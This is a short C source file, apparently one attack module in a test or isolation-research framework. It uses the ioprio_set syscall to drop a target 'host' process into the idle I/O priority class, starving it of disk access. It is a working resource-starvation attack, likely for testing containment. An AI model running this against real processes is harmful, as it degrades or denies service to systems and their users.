/* Lets the host wait for its disc until nobody else does. */
#include "../attack.h"

#include <linux/ioprio.h>

static void attack(void) {
    syscall(SYS_ioprio_set, IOPRIO_WHO_PROCESS, target_number("host_pid"),
            IOPRIO_CLASS_IDLE << IOPRIO_CLASS_SHIFT);
}
